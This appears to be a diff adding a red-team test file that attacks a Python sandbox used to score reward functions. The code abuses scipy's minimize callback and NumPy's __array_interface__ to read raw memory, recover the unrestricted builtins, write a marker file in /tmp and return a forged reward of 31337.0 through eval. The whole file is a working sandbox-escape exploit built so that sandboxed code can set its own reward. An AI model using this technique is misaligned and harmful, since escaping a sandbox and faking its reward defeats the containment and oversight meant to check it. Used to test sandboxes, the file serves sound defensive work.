@@ -1,0 +1,50 @@
+# Attack: minimize's callback receives the live intermediate OptimizeResult; the key is added there.
+# Success would create /tmp/reward_sandbox_attack_marker or return 31337.0.
+import random
+
+import numpy as np
+from scipy.optimize import minimize
+
+CAUGHT = []
+
+
+def keep(intermediate_result):
+    CAUGHT.append(intermediate_result)
+
+
+def square(x):
+    return float(x[0] * x[0])
+
+
+def holder(iface):
+    minimize(square, np.array([1.0]), callback=keep, options={"maxiter": 2})
+    result = CAUGHT[-1]
+    result.update({"__array_interface__": iface})
+    return result
+
+
+def peek(addr):
+    iface = {"shape": (1,), "typestr": "<u8", "data": (addr, False), "version": 3}
+    return int(np.asarray(holder(iface))[0])
+
+
+def object_at(addr):
+    cell = np.zeros(1, dtype=np.uint64)
+    cell[0] = addr
+    data = peek(id(cell) + 16)  # PyArrayObject.data
+    iface = {"shape": (1,), "typestr": "|O", "data": (data, False), "version": 3}
+    return np.asarray(holder(iface))[0]
+
+
+def escape():
+    func = peek(id(random.choice) + 16)  # PyMethodObject.im_func
+    real = object_at(peek(func + 24))  # PyFunctionObject.func_builtins
+    try:
+        real["open"]("/tmp/reward_sandbox_attack_marker", "w").close()
+    except Exception:
+        pass
+    return real["eval"]("31337.0")
+
+
+def reward_function(params):
+    return escape()
